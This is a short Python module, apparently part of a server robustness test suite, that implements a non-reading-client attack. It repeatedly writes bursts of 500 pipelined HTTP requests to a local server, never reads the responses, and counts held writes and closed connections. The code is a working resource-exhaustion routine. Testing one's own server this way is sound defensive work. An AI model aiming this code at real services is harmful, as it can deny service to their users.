"""One connection sends requests and reads no answer. Counts `requests`, `held` where the server has stopped reading, `closed`."""

import asyncio
import socket

from hostile.attacker import ADDRESS, Target

REQUEST = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
BURST = 500
HELD_S = 1.0
"""A server that reads as fast as it can takes a burst in milliseconds."""


async def attack(target: Target) -> None:
    while True:
        writer = await _connect(target)
        target.count("connections")
        try:
            while True:
                writer.write(REQUEST * BURST)
                target.count("requests", BURST)
                try:
                    await asyncio.wait_for(writer.drain(), HELD_S)
                except TimeoutError:
                    target.count("held")
                    await writer.drain()
        except ConnectionError:
            target.count("closed")
            await asyncio.sleep(0.1)


async def _connect(target: Target) -> asyncio.StreamWriter:
    """A connection whose own buffer takes little: what is written has been read, but for that."""
    client = socket.socket()
    client.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 65_536)
    client.bind((ADDRESS, 0))
    client.setblocking(False)
    await asyncio.get_running_loop().sock_connect(client, ("127.0.0.1", target.port))
    _, writer = await asyncio.open_connection(sock=client)
    writer.transport.pause_reading()
    return writer
